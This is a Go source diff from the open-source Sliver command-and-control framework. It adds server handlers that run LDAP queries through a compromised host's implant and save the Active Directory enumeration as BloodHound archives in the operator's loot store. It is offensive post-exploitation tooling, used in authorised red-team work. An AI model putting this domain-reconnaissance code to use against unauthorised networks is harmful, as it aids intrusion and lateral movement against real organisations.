@@ -0,0 +1,101 @@
+package rpc
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/bloodhound"
+	"github.com/bishopfox/sliver/server/loot"
+)
+
+// LDAPSearch - Run LDAP queries against the implant's domain with its token
+func (rpc *Server) LDAPSearch(ctx context.Context, req *sliverpb.LDAPSearchReq) (*sliverpb.LDAPSearch, error) {
+	resp := &sliverpb.LDAPSearch{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	return resp, nil
+}
+
+// ADCollect - Enumerate the domain over LDAP from the implant and save the
+// results as a BloodHound zip in loot
+func (rpc *Server) ADCollect(ctx context.Context, req *sliverpb.ADCollectReq) (*sliverpb.ADCollect, error) {
+	queries, err := bloodhound.Queries(req.Collections)
+	if err != nil {
+		return nil, err
+	}
+	search := &sliverpb.LDAPSearch{}
+	err = rpc.GenericHandler(&sliverpb.LDAPSearchReq{
+		Server:  req.Server,
+		Queries: queries,
+		Request: req.Request,
+	}, search)
+	if err != nil {
+		return nil, err
+	}
+	resp := &sliverpb.ADCollect{Response: search.Response}
+	if search.Response != nil && search.Response.Err != "" {
+		return resp, nil
+	}
+
+	domain, data := bloodhound.Build(search)
+	resp.Domain = domain
+	resp.Server = search.Server
+	for _, collection := range data {
+		resp.Counts = append(resp.Counts, &sliverpb.ADCollectCount{
+			Collection: collection.Collection,
+			Count:      int32(collection.Count),
+			Err:        collection.Err,
+		})
+	}
+
+	owner := getRequestOwner(req.Request)
+	if owner == nil {
+		return resp, nil
+	}
+	timestamp := time.Now()
+	archive, err := bloodhound.Zip(data, timestamp)
+	if err != nil {
+		resp.Response = &commonpb.Response{Err: fmt.Sprintf("Failed to archive collections %s", err)}
+		return resp, nil
+	}
+	meta, err := loot.AddLoot(&clientpb.Loot{
+		Name:        fmt.Sprintf("BloodHound %s", domain),
+		Type:        "bloodhound",
+		FileName:    fmt.Sprintf("%s_%s_bloodhound.zip", timestamp.Format("20060102150405"), strings.ToLower(domain)),
+		SessionName: owner.Name,
+		SessionID:   owner.SessionID,
+		Data:        archive,
+	})
+	if err != nil {
+		rpcLog.Errorf("Failed to save collections to loot %s", err)
+		resp.Response = &commonpb.Response{Err: fmt.Sprintf("Failed to save collections to loot %s", err)}
+		return resp, nil
+	}
+	resp.LootID = meta.ID
+	return resp, nil
+}